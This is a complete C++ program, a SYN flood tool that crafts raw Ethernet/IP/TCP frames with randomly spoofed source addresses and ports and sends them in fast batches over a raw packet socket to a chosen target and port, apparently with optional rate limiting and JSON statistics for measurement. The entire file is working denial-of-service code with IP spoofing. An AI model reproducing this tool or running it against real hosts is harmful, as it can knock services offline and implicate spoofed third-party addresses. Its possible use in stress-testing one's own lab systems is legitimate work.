// A SYN flood: TCP segments from random addresses of a network and random ports, as fast as one CPU
// sends them or at a given rate, for a given time.
//
//   syn_flood DEVICE DESTINATION_MAC NETWORK PREFIX_LENGTH TARGET PORT SECONDS RATE
//
// RATE is in segments a second; 0: as fast as they go. SIGTERM ends it sooner. Prints one line of
// JSON.

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <thread>

namespace {

using Clock = std::chrono::steady_clock;
constexpr std::size_t batch = 64;

volatile std::sig_atomic_t ended = 0;

struct [[gnu::packed]] Frame {
    ether_header ethernet;
    iphdr ip;
    tcphdr tcp;
};

struct [[gnu::packed]] PseudoHeader {
    std::uint32_t source, target;
    std::uint8_t zero, protocol;
    std::uint16_t length;
};

[[noreturn]] void give_up(const char* what) {
    std::perror(what);
    std::exit(1);
}

std::uint32_t sum_of(const void* data, std::size_t bytes, std::uint32_t sum = 0) {
    const auto* from = static_cast<const unsigned char*>(data);
    for (std::size_t i = 0; i + 1 < bytes; i += 2)
        sum += static_cast<std::uint32_t>(from[i] << 8 | from[i + 1]);
    return sum;
}

std::uint16_t folded(std::uint32_t sum) {
    while (sum >> 16 != 0)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons(static_cast<std::uint16_t>(~sum));
}

struct Flood {
    std::uint32_t network, mask, target;  // host byte order
    std::uint16_t port;
    std::mt19937 random{std::random_device{}()};

    void fill(Frame& frame) {
        const std::uint32_t source = network | (static_cast<std::uint32_t>(random()) & ~mask);
        frame.ip = {};
        frame.ip.version = 4;
        frame.ip.ihl = 5;
        frame.ip.tot_len = htons(sizeof(iphdr) + sizeof(tcphdr));
        frame.ip.ttl = 64;
        frame.ip.protocol = IPPROTO_TCP;
        frame.ip.saddr = htonl(source);
        frame.ip.daddr = htonl(target);
        frame.ip.check = folded(sum_of(&frame.ip, sizeof frame.ip));
        frame.tcp = {};
        frame.tcp.source = htons(static_cast<std::uint16_t>(1024 + random() % 60000));
        frame.tcp.dest = htons(port);
        frame.tcp.seq = static_cast<std::uint32_t>(random());
        frame.tcp.doff = 5;
        frame.tcp.syn = 1;
        frame.tcp.window = htons(64240);
        const PseudoHeader pseudo{frame.ip.saddr, frame.ip.daddr, 0, IPPROTO_TCP,
                                  htons(sizeof(tcphdr))};
        frame.tcp.check =
            folded(sum_of(&frame.tcp, sizeof frame.tcp, sum_of(&pseudo, sizeof pseudo)));
    }
};

int open_device(const char* device) {
    const int fd = socket(AF_PACKET, SOCK_RAW, 0);
    if (fd < 0) give_up("socket");
    sockaddr_ll address{};
    address.sll_family = AF_PACKET;
    address.sll_ifindex = static_cast<int>(if_nametoindex(device));
    if (bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0) give_up(device);
    return fd;
}

/// Those that were taken; a full queue takes none.
std::uint64_t send_batch(int fd, std::array<mmsghdr, batch>& messages) {
    const int sent = sendmmsg(fd, messages.data(), batch, 0);
    if (sent >= 0) return static_cast<std::uint64_t>(sent);
    if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) give_up("sendmmsg");
    return 0;
}

void wait_for_turn(Clock::time_point start, std::uint64_t sent, double rate) {
    if (rate <= 0) return;
    const std::chrono::duration<double> due(static_cast<double>(sent) / rate);
    std::this_thread::sleep_until(start + std::chrono::duration_cast<Clock::duration>(due));
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 9) {
        std::fputs("syn_flood DEVICE MAC NETWORK LENGTH TARGET PORT SECONDS RATE\n", stderr);
        return 2;
    }
    Flood flood{};
    flood.network = ntohl(inet_addr(argv[3]));
    flood.mask = ~0U << (32 - std::atoi(argv[4]));
    flood.target = ntohl(inet_addr(argv[5]));
    flood.port = static_cast<std::uint16_t>(std::atoi(argv[6]));
    const std::chrono::duration<double> length(std::atof(argv[7]));
    const double rate = std::atof(argv[8]);
    std::array<Frame, batch> frames{};
    std::array<iovec, batch> vectors{};
    std::array<mmsghdr, batch> messages{};
    for (std::size_t i = 0; i < batch; ++i) {
        auto* mac = frames[i].ethernet.ether_dhost;
        if (std::sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2],
                        &mac[3], &mac[4], &mac[5]) != 6)
            give_up(argv[2]);
        frames[i].ethernet.ether_shost[0] = 2;
        frames[i].ethernet.ether_type = htons(ETHERTYPE_IP);
        vectors[i] = {&frames[i], sizeof(Frame)};
        messages[i].msg_hdr.msg_iov = &vectors[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    const int fd = open_device(argv[1]);
    std::signal(SIGTERM, [](int) { ended = 1; });
    const auto start = Clock::now();
    std::uint64_t sent = 0;
    while (ended == 0 && Clock::now() - start < length) {
        for (Frame& frame : frames)
            flood.fill(frame);
        sent += send_batch(fd, messages);
        wait_for_turn(start, sent, rate);
    }
    const std::chrono::duration<double> took = Clock::now() - start;
    std::printf("{\"segments\": %llu, \"seconds\": %.3f, \"rate\": %.0f}\n",
                static_cast<unsigned long long>(sent), took.count(),
                static_cast<double>(sent) / took.count());
    close(fd);
    return 0;
}
